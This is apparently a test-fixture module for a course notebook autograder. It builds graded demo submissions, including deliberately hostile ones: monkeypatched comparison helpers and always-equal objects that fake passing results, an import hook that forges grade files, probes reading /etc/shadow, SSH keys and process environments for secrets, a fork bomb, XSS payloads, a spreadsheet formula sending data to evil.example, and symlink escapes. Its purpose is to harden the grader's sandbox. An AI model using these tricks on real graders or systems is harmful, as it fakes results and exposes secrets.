"""A demo class for chapter 5: one submission of every kind an instructor meets.

:func:`write_demo_class` builds the submissions from the released exercise
(``exercises/ch05/ch05.ipynb``) and answer code written here, so they always
match the current release. :data:`EXPECTED` says what each must get; a test
grades the class through the real CLI and checks every row.

Half of the class is ordinary (right, partly right, wrong, raising, broken
files); the other half attacks the grader: endless loops and sleeps,
``input()``, memory hogs, kernels that exit or kill themselves, floods of
output, test cells edited, deleted, duplicated or moved, monkeypatched
helpers and comparison functions, objects that equal everything, fake
grader modules behind import hooks, forged answer files, reading the
solutions and other students' work, writing outside the sandbox, network
connections, and copying another student's numbers.

Examples
--------
>>> sorted(expected())[:3]
['ali_phones_home', 'alice_right', 'bao_partly_right']
"""

from __future__ import annotations

import copy
import functools
from pathlib import Path

import nbformat

from autograder.chapterdemo import solution_answers
from autograder.coursedir import EXERCISES_DIR, SOLUTIONS_DIR
from autograder.reference.ch05 import DAYS_NOT_ORDERS, DEMO, SPLIT_TIES  # noqa: F401

WRONG = DEMO["wrong"]

ASSIGNMENT = "ch05"

def _solution_code() -> dict[str, str]:
    """Code answer cells of the solutions notebook with only the solution kept."""
    return {gid: src for gid, src in solution_answers(ASSIGNMENT).items()
            if gid.endswith("_answer")}


# The written task (ch05_q7, graded by hand): what students write in the markdown cell.
WRITTEN = {
    "good": """**Your answer / 你的回答**

I would call first the at-risk customers with F and M scores of 4 or 5: they used to buy
often and spend a lot, so winning one back is worth the most, and their habit shows they
liked us. Among them I start with R score 2, who stopped more recently and are easier to
bring back, and the biggest spenders of those come first. On the call I ask why they stopped
and offer free delivery and a voucher for their usual products next month: cheap compared
with what they spent, and a sign that we noticed them. RFM cannot say why they left (a
move, a competitor, a bad order); only talking to them, or their complaints and returns,
can tell us.""",
    "weak": "**Your answer / 你的回答**\n\nCall the customers who spent the most and give "
            "everybody 30 % off.",
    "zh": """**Your answer / 你的回答**

先给 F、M 得分都是 4 或 5 的流失风险客户打电话：他们以前买得勤、花得多，挽回一位的价值最大；
其中先打 R 得分为 2 的，他们停止购买的时间较短，更容易挽回。电话里先问清楚他们为什么不来了，
再送一张下个月常买商品的代金券并免运费，成本远低于他们过去的消费额。RFM 看不出客户离开的
原因（搬家、被竞争对手吸引、一次不愉快的购物），只能通过电话沟通或查看投诉与退货记录来了解。""",
}
WRITTEN_ID = "ch05_q7"

RAISING = {
    gid: f"def {name}(*args, **kwargs):\n    raise ValueError('I am not sure how to do this')"
    for gid, name in [("ch05_q1_answer", "rfm_table"), ("ch05_q2_answer", "rfm_scores"),
                      ("ch05_q3_answer", "abc_classes")]
}

LOOP = '''def rfm_scores(rfm, bins=5):
    return None

while True:  # an endless loop left in by mistake
    pass'''


# Put at the top of each function: nbgrader zeroes a test cell with stderr output,
# so the grader must keep a student's warnings out of the test cells.
NOISE = ('    import sys, warnings\n'
         '    warnings.warn("this may change in a future version", FutureWarning)\n'
         '    print("debugging...", file=sys.stderr)\n')


PATCH_HELPERS = '''import math
import numpy as np
import pandas as pd
import pandas.testing
import course.check._core as core

np.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
pd.testing.assert_frame_equal = lambda *a, **k: None
pd.testing.assert_series_equal = lambda *a, **k: None
pd.DataFrame.equals = lambda self, other: True
pd.Series.equals = lambda self, other: True
for thing in list(vars(core).values()):
    if isinstance(thing, type) and hasattr(thing, "assert_passes"):
        thing.assert_passes = lambda *a, **k: None'''

ALWAYS_EQUAL = {
    "ch05_q1_answer": '''class Yes:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


class YesFrame(pd.DataFrame):
    def __eq__(self, other):
        return True


class YesSeries(pd.Series):
    def __eq__(self, other):
        return True


def rfm_table(transactions, as_of=None):
    return YesFrame({"recency": [0]})''',
    "ch05_q2_answer": "def rfm_scores(rfm, bins=5):\n    return Yes()",
    "ch05_q3_answer": "def abc_classes(values, a_cut=0.8, b_cut=0.95):\n"
                      "    return YesSeries(['A'])",
    "ch05_q4_answer": "def man_qualify(leads, min_budget):\n    return Yes()",
    "ch05_q5_answer": "quiz_answers = {str(k): Yes() for k in range(1, 9)}",
    "ch05_q6_answer": 'my_numbers = {"customers": Yes(), "top20_share": Yes(), '
                      '"a_customers": Yes()}',
}

FAKE_GRADER = '''import importlib.abc
import importlib.machinery
import json
import os
import pathlib
import sys
import types


def hand_in(qid, answer):
    folder = pathlib.Path(os.environ.get("CRM_GRADING_DIR", ".")) / "answers"
    folder.mkdir(parents=True, exist_ok=True)
    forged = {"qid": qid, "ok": True, "points": 3,
              "results": [{"case": "anything", "value": True, "ok": True}] * 20}
    (folder / f"{qid}.json").write_text(json.dumps(forged))


fake = types.ModuleType("course.check.handin")
fake.hand_in = hand_in
sys.modules["course.check.handin"] = fake


class FakeGrader(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in {"autograder", "nbgrader"}:
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
        return None

    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__path__ = []
        module.verify = lambda *args, **kwargs: 3.0
        return module

    def exec_module(self, module):
        pass


sys.meta_path.insert(0, FakeGrader())
for thing in (ch05.q1, ch05.q2, ch05.q3, ch05.q4, ch05.q5, ch05.q6):
    thing.assert_passes = lambda *a, **k: None'''


def snoop_code(read: dict[str, str], write: dict[str, str]) -> str:
    """A cell that tries to read and write the given paths and prints what happened."""
    return (
        "import pathlib\n"
        "SNOOP = {}\n"
        f"for label, path in {read!r}.items():\n"
        "    try:\n"
        "        pathlib.Path(path).read_bytes()\n"
        "        SNOOP['read ' + label] = 'READ IT'\n"
        "    except Exception as exc:\n"
        "        SNOOP['read ' + label] = type(exc).__name__\n"
        f"for label, path in {write!r}.items():\n"
        "    try:\n"
        "        with open(path, 'a') as fh:\n"
        "            fh.write('hacked')\n"
        "        SNOOP['write ' + label] = 'WROTE IT'\n"
        "    except Exception as exc:\n"
        "        SNOOP['write ' + label] = type(exc).__name__\n"
        "print(SNOOP)")


def network_code(port: int) -> str:
    """A cell that tries a local server and the internet and prints what happened."""
    return (
        "import socket\n"
        "import urllib.request\n"
        "NET = {}\n"
        f"for label, url in {{'local': 'http://127.0.0.1:{port}/leak', "
        "'internet': 'https://pypi.org/'}.items():\n"
        "    try:\n"
        "        urllib.request.urlopen(url, timeout=3)\n"
        "        NET[label] = 'CONNECTED'\n"
        "    except Exception as exc:\n"
        "        NET[label] = type(exc).__name__\n"
        "print(NET)")


def _fill(release, answers: dict[str, str]):
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
    return nb


def honest_points(answers: dict[str, str], student_id: str) -> float:
    """What these answer cells earn for ``student_id``, graded in this process.

    The answer code runs here (it is the demo's own code), on the student's
    own data set, and :func:`autograder.hidden.verify` scores each answer on
    that student's hidden inputs. The sandboxed grader must give the same.
    """
    import math

    import numpy as np
    import pandas as pd

    from autograder.hidden import verify
    from autograder.reference.ch05 import QUESTIONS
    from course.synthetic import transactions_for_student

    namespace = {"pd": pd, "np": np, "math": math,
                 "my_tx": transactions_for_student(student_id)}
    for gid in sorted(answers):
        if gid.endswith("_answer"):  # code answers; a written answer is graded by hand
            exec(answers[gid], namespace)  # noqa: S102 - the demo's own answer code
    return round(sum(verify(qid, namespace[q.name], seed=student_id, quiet=True)
                     for qid, q in QUESTIONS.items() if q.name in namespace), 2)


def _expected_points(student_id: str) -> float:
    right = _solution_code()
    answers = {
        "bao_partly_right": _bao(right),
        "chen_wrong": WRONG, "wen_patches_helpers": WRONG,
        "gita_tests_edited": {**right, "ch05_q3_answer": WRONG["ch05_q3_answer"]},
        "kim_copied_numbers": {**right, "ch05_q6_answer": _copied_numbers()},
    }[student_id]
    return honest_points(answers, student_id)


def _copied_numbers() -> str:
    from autograder.reference.ch05 import ref_my_numbers

    return f"my_numbers = {ref_my_numbers('alice_right')!r}"


def auto_points() -> float:
    """The points the autograder can give for the assignment: every task but the written.

    Examples
    --------
    >>> auto_points()
    16.0
    """
    from autograder.reference.ch05 import QUESTIONS

    return float(sum(q.points for q in QUESTIONS.values()))


@functools.cache
def expected() -> dict[str, tuple[float, str]]:
    """Student id -> (score, status) each demo student must get (also as ``EXPECTED``).

    The score is what the autograder gives: at most 16 of the maximum 19
    (3 + 3 + 2 + 2 + 4 + 2 automatic, and 3 for the written task ch05_q7,
    which stays for the instructor: see :func:`expected_manual`). A few
    scores are worked out by :func:`honest_points` (grading the same answers
    in this process), so they are computed on first use rather than at import.
    """
    full = auto_points()
    return {
        "alice_right": (full, "ok"),
        # q1 counts purchase days, not orders; q2 right; q3 splits ties at the cut-offs
        # (the old rule); q4 and q6 left undone; quiz 5 of 8 right
        "bao_partly_right": (_expected_points("bao_partly_right"), "ok"),
        # wrong answers still pass a few hidden cases (an empty input, say): partial credit
        "chen_wrong": (_expected_points("chen_wrong"), "ok"),
        "dmitri_raises": (2.0, "ok"),        # every function raises except man_qualify
        "emma_endless_loop": (full - 3, "timeout"),  # q2's cell never ends; the rest is right
        "farid_corrupt_file": (0.0, "unreadable"),
        # q3 wrong, its test cell emptied (q6's count of A customers uses her q3)
        "gita_tests_edited": (_expected_points("gita_tests_edited"), "tampered"),
        "hiro_cells_deleted": (full, "tampered"),  # test cells deleted, answers right
        "ines_no_notebook": (0.0, "missing"),
        "李雷 Li Lei": (full, "ok"),           # a non-ASCII id with a space
        "jun_noisy_but_right": (full, "ok"),   # right answers that warn and write to stderr
        # ---- submissions that attack the grader
        # q6: alice's numbers typed in
        "kim_copied_numbers": (_expected_points("kim_copied_numbers"), "ok"),
        "lena_empty_file": (0.0, "unreadable"),
        "max_not_a_notebook": (0.0, "unreadable"),
        "nina_sleeps": (full, "timeout"),      # sleeps for days after defining abc_classes
        "omar_waits_for_input": (full, "needs-input"),
        "pia_ignores_interrupts": (10.0, "timeout"),  # swallows KeyboardInterrupt after q4
        "quinn_memory_hog": (full, "memory-limit"),
        "rosa_exits_the_kernel": (6.0, "kernel-died"),  # os._exit after q2's tests
        "sam_kills_his_kernel": (10.0, "kernel-died"),  # SIGKILL to itself after q4's tests
        "uma_floods_output": (full, "output-cut"),     # prints 300 MB
        "victor_moves_tests": (full, "tampered"),      # test cells duplicated and swapped
        # chen's wrong answers with numpy, pandas, math and the checks patched: the same score
        "wen_patches_helpers": (_expected_points("wen_patches_helpers"), "ok"),
        "xia_always_equal": (0.0, "ok"),       # returns objects that equal everything
        "yusuf_fakes_grader": (0.0, "ok"),  # chen's answers, import hook, fake hand_in, forgeries
        "zoe_snoops": (full, "ok"),            # tries to read and write outside her folder
        "ali_phones_home": (full, "ok"),       # tries the network
        "学生_01": (full, "ok"),
    }

#: Who leaves the written task (ch05_q7) as released: nbgrader gives that 0 at once.
BLANK_WRITTEN = ("chen_wrong", "dmitri_raises", "wen_patches_helpers", "xia_always_equal",
                 "yusuf_fakes_grader")


def expected_manual() -> dict[str, str]:
    """Student id -> state of the written task after ``crm-course grade`` (autograder.manual).

    ``pending`` (3 points wait for the instructor) for everyone who wrote
    something, ``blank`` (0, given at once, as nbgrader does for an answer cell
    left as released) for :data:`BLANK_WRITTEN`, and no state for the
    submissions that could not be read at all.
    """
    unread = {sid for sid, (_, status) in expected().items()
              if status in {"missing", "unreadable"}}
    return {sid: "blank" if sid in BLANK_WRITTEN else "pending"
            for sid in expected() if sid not in unread}


def _bao(right: dict[str, str]) -> dict[str, str]:
    """Partly right: the chapter's ``DEMO["partly"]`` (days for orders in q1, ties split
    in q3, quiz 5 of 8), q2 right, q4 and q6 left as released, a weak written answer."""
    return {**DEMO["partly"], "ch05_q2_answer": right["ch05_q2_answer"],
            WRITTEN_ID: WRITTEN["weak"]}


def _insert_after(nb, grade_id: str | None, source: str, index: int | None = None):
    """A copy of ``nb`` with a free code cell after the cell ``grade_id``."""
    nb = copy.deepcopy(nb)
    if index is None:
        index = 1 + next(i for i, c in enumerate(nb.cells)
                         if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    nb.cells.insert(index, nbformat.v4.new_code_cell(source))
    return nb


def _prepend(answer: str, code: str) -> str:
    return code + "\n" + answer


def build_submissions(targets: dict | None = None) -> dict[str, object]:
    """Each demo student's submission: a notebook, raw bytes, or None (no file).

    ``targets`` gives the snooping and networking students something real to
    aim at: ``read`` and ``write`` (label -> path) and ``port`` (a local server).
    """
    targets = targets or {}
    release = nbformat.read(EXERCISES_DIR / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    right = {**_solution_code(), WRITTEN_ID: WRITTEN["good"]}
    subs: dict[str, object] = {}
    subs["alice_right"] = _fill(release, right)
    subs["bao_partly_right"] = _fill(release, _bao(right))
    subs["chen_wrong"] = _fill(release, WRONG)
    subs["dmitri_raises"] = _fill(release, {**RAISING,
                                            "ch05_q4_answer": right["ch05_q4_answer"]})
    subs["emma_endless_loop"] = _fill(release, {**right, "ch05_q2_answer": LOOP})
    good = nbformat.writes(_fill(release, right))
    subs["farid_corrupt_file"] = good[: len(good) // 2].encode("utf-8")
    edited = _fill(release, {**right, "ch05_q3_answer": WRONG["ch05_q3_answer"]})
    for cell in edited.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "ch05_q3":
            cell.source = "# I removed the tests\npass"
    subs["gita_tests_edited"] = edited
    deleted = _fill(release, right)
    deleted.cells = [c for c in deleted.cells
                     if c.metadata.get("nbgrader", {}).get("grade_id") not in {"ch05_q1",
                                                                                "ch05_q4"}]
    subs["hiro_cells_deleted"] = deleted
    subs["ines_no_notebook"] = None
    subs["李雷 Li Lei"] = _fill(release, {**right, WRITTEN_ID: WRITTEN["zh"]})
    noisy = {gid: src.replace('    """', NOISE + '    """', 1) if src.startswith("def ") else src
             for gid, src in right.items()}
    subs["jun_noisy_but_right"] = _fill(release, noisy)
    subs.update(_attacks(release, right, targets))
    return subs


def _attacks(release, right: dict[str, str], targets: dict) -> dict[str, object]:
    """The submissions that attack the grader (see the module docstring)."""
    full = _fill(release, right)
    subs: dict[str, object] = {}
    subs["kim_copied_numbers"] = _fill(release, {**right, "ch05_q6_answer": _copied_numbers()})
    subs["lena_empty_file"] = b""
    subs["max_not_a_notebook"] = b'{"hello": "this is not a notebook"}'
    subs["nina_sleeps"] = _fill(release, {**right, "ch05_q3_answer": right["ch05_q3_answer"]
                                          + "\n\nimport time\ntime.sleep(10**6)"})
    subs["omar_waits_for_input"] = _insert_after(full, "ch05_q1",
                                                 'name = input("What is your name? ")')
    subs["pia_ignores_interrupts"] = _insert_after(full, "ch05_q4", (
        "import time\nwhile True:\n    try:\n        time.sleep(1)\n"
        "    except KeyboardInterrupt:\n        pass"))
    subs["quinn_memory_hog"] = _fill(release, {**right, "ch05_q4_answer": right[
        "ch05_q4_answer"] + "\n\nhog = [bytearray(10**8) for _ in range(10**4)]"})
    subs["rosa_exits_the_kernel"] = _insert_after(full, "ch05_q2", "import os\nos._exit(0)")
    subs["sam_kills_his_kernel"] = _insert_after(
        full, "ch05_q4", "import os\nimport signal\nos.kill(os.getpid(), signal.SIGKILL)")
    subs["uma_floods_output"] = _insert_after(full, "ch05_q1",
                                              'for _ in range(3000):\n    print("x" * 100_000)')
    moved = copy.deepcopy(full)
    ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in moved.cells]
    q2, q3 = ids.index("ch05_q2"), ids.index("ch05_q3")
    moved.cells[q2], moved.cells[q3] = moved.cells[q3], moved.cells[q2]
    moved.cells.append(copy.deepcopy(moved.cells[ids.index("ch05_q1")]))
    subs["victor_moves_tests"] = moved
    subs["wen_patches_helpers"] = _insert_after(_fill(release, WRONG), "ch05_setup",
                                                PATCH_HELPERS)
    subs["xia_always_equal"] = _insert_after(_fill(release, ALWAYS_EQUAL), "ch05_setup",
                                             PATCH_HELPERS)
    subs["yusuf_fakes_grader"] = _insert_after(_fill(release, WRONG), "ch05_setup",
                                               FAKE_GRADER)
    subs["zoe_snoops"] = _insert_after(full, "ch05_setup", snoop_code(
        targets.get("read", {}), targets.get("write", {})))
    subs["ali_phones_home"] = _insert_after(full, "ch05_setup",
                                            network_code(targets.get("port", 9)))
    subs["学生_01"] = _fill(release, {**right, WRITTEN_ID: WRITTEN["zh"]})
    return subs


def default_targets(folder: Path, grading: Path | None = None) -> dict:
    """What the snooping student aims at: the solutions, the reference, others' work."""
    from autograder.coursedir import REPO_ROOT

    read = {"solutions": str(SOLUTIONS_DIR / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
            "reference": str(REPO_ROOT / "autograder" / "reference" / "ch05.py"),
            "other student": str(folder.resolve() / "alice_right" /
                                 f"{ASSIGNMENT}_submission.ipynb")}
    write = {"other student": read["other student"],
             "course repository": str(REPO_ROOT / "README.md")}
    if grading is not None:
        read["gradebook"] = str(grading.resolve() / "gradebook.db")
        write["grades"] = str(grading.resolve() / "grades.csv")
    return {"read": read, "write": write}


def write_demo_class(folder: str | Path, targets: dict | None = None) -> Path:
    """Write the demo class into ``folder`` (one sub-folder per student) and return it."""
    folder = Path(folder)
    targets = targets if targets is not None else default_targets(folder)
    for sid, sub in build_submissions(targets).items():
        student_dir = folder / sid
        student_dir.mkdir(parents=True, exist_ok=True)
        if sub is None:
            (student_dir / "README.txt").write_text("I forgot to attach my notebook.\n",
                                                    encoding="utf-8")
        elif isinstance(sub, bytes):
            (student_dir / f"{ASSIGNMENT}.ipynb").write_bytes(sub)
        else:
            # LMS downloads rename files; the grader finds the notebook by extension.
            nbformat.write(sub, student_dir / f"{ASSIGNMENT}_submission.ipynb")
    return folder


def __getattr__(name: str):
    if name == "EXPECTED":  # computed on first use: see expected()
        return expected()
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")


# ------------------------------------------------------------------------------------------
# The server class: submissions that attack the machine the grader runs on (issue 8).
# Graded by tests/test_server_security.py through the CLI; kept apart from the demo class.

#: What the student code checks about itself; printed as one dict.
SERVER_PROBE = '''import os
import pathlib
PROBE = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups()}
for line in pathlib.Path("/proc/self/status").read_text().splitlines():
    if line.startswith(("CapEff", "CapPrm", "CapBnd", "NoNewPrivs")):
        PROBE[line.split(":")[0]] = line.split()[1]
PROBE["etc"] = sorted(os.listdir("/etc"))
for label, path in {"shadow": "/etc/shadow", "gshadow": "/etc/gshadow",
                    "ssh host key": "/etc/ssh/ssh_host_ed25519_key",
                    "ssl private": "/etc/ssl/private", "pip config": "/etc/pip.conf",
                    "root home": "/root/.bash_history"}.items():
    try:
        pathlib.Path(path).read_bytes()
        PROBE[label] = "READ IT"
    except Exception as exc:
        PROBE[label] = type(exc).__name__
PROBE["passwd"] = pathlib.Path("/etc/passwd").read_text().count("\\n")
print(PROBE)'''

#: Reads every environment in the sandbox's /proc and reports which secrets it saw.
PROC_PROBE = '''import os
import pathlib
SEEN = {"pids": sorted(int(p.name) for p in pathlib.Path("/proc").iterdir()
                       if p.name.isdigit())}
text = b""
for path in pathlib.Path("/proc").glob("*/environ"):
    try:
        text += path.read_bytes()
        SEEN.setdefault("read", []).append(path.parent.name)
    except OSError as exc:
        SEEN.setdefault("refused", []).append(path.parent.name)
text += "\\0".join(f"{k}={v}" for k, v in os.environ.items()).encode()
SEEN["keys"] = sorted(os.environ)
SEEN["leaked"] = [word for word in ("CRM_TEST_SECRET", "DATABASE_URL", "s3cr3t")
                  if word.encode() in text]
print(SEEN)'''

FORK_BOMB = '''import os
import time
children = 0
while True:  # every child holds its slot: the cap must stop this, not the time limit
    if os.fork() == 0:
        time.sleep(10**6)
        os._exit(0)
    children += 1'''

FILE_FLOOD = '''import pathlib
flood = pathlib.Path("flood")
flood.mkdir()
made = 0
try:
    for i in range(10**6):
        (flood / f"f{i}").write_bytes(b"")
        made += 1
finally:
    print("files made:", made)'''

SCRIPTS = '''from IPython.display import HTML, Javascript, display
display(HTML('<script>window.PWNED_OUTPUT = 1</script><b onmouseover="alert(3)">bold</b>'))
display(Javascript("window.PWNED_JS = 1"))'''

SCRIPT_MARKDOWN = ('My notes <script>window.PWNED_MARKDOWN = 1</script>\n\n'
                   '<img src="x" onerror="window.PWNED_IMG = 1">\n\n'
                   '[click me](javascript:window.PWNED_LINK=1)')

#: A folder name a spreadsheet would run, and one a browser would.
FORMULA_ID = '=HYPERLINK("evil.example?leak="&A1,"click")'
HTML_ID = '<img src=x onerror=alert(1)>'


def build_server_class(folder: str | Path) -> dict[str, tuple[float, str]]:
    """Write the server class into ``folder``; return each student's (score, status).

    Every student who runs is right (all :func:`auto_points`) on top of the attack,
    so a score below that means the attack cost a grade; the refused ones get 0.
    """
    folder = Path(folder)
    release = nbformat.read(EXERCISES_DIR / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    full = _fill(release, _solution_code())
    last = full.cells[-1].metadata.get("nbgrader", {}).get("grade_id")
    notebooks = {
        "sv_reads_etc": _insert_after(full, "ch05_setup", SERVER_PROBE),
        "sv_reads_proc": _insert_after(full, "ch05_setup", PROC_PROBE),
        "sv_fork_bomb": _insert_after(full, "ch05_q4", FORK_BOMB),
        "sv_file_flood": _insert_after(full, last, FILE_FLOOD, index=len(full.cells)),
        "sv_scripts": _insert_after(full, "ch05_setup", SCRIPTS),
        FORMULA_ID: copy.deepcopy(full),
        HTML_ID: copy.deepcopy(full),
        "sv_link_inside": copy.deepcopy(full),
    }
    md = nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN)
    notebooks["sv_scripts"].cells.insert(1, md)
    for sid, nb in notebooks.items():
        (folder / sid).mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, folder / sid / f"{ASSIGNMENT}.ipynb")
    solution = SOLUTIONS_DIR / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    (folder / "sv_links_solution").mkdir(parents=True, exist_ok=True)
    (folder / "sv_links_solution" / f"{ASSIGNMENT}.ipynb").symlink_to(solution)
    (folder / "sv_link_inside" / "notes.txt").symlink_to("/etc/shadow")
    (folder / "sv_folder_is_link").symlink_to(solution.parent)
    (folder / "-sv_error_text").mkdir(parents=True, exist_ok=True)
    (folder / "-sv_error_text" / "=1+2.ipynb").write_text('{"cells": [', encoding="utf-8")
    full = auto_points()
    return {
        "sv_reads_etc": (full, "ok"), "sv_reads_proc": (full, "ok"),
        "sv_fork_bomb": (full, "process-limit"), "sv_file_flood": (full, "file-limit"),
        "sv_scripts": (full, "ok"), FORMULA_ID: (full, "ok"), HTML_ID: (full, "ok"),
        "sv_links_solution": (0.0, "refused"), "sv_link_inside": (0.0, "refused"),
        "sv_folder_is_link": (0.0, "refused"), "-sv_error_text": (0.0, "unreadable"),
    }
